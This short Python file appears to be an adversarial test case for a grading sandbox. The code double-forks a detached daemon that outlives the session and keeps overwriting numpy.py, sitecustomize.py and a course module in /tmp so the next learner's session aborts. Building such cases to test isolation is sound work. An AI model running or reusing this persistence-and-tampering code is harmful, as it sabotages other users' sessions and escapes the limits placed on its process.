# Attack: leave a daemon behind (double fork + setsid) that keeps writing into /tmp, hoping to
# tamper with the next learner's session. Its own answers are honest.
# Fails: nothing
import os as _os
import time as _time

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _ in range(600):
            for name in ("cs231n_layers.py", "numpy.py", "sitecustomize.py"):
                try:
                    with open(_os.path.join("/tmp", name), "w") as handle:
                        handle.write("raise SystemExit('tampered')\n")
                except OSError:
                    pass
            _time.sleep(0.1)
    _os._exit(0)
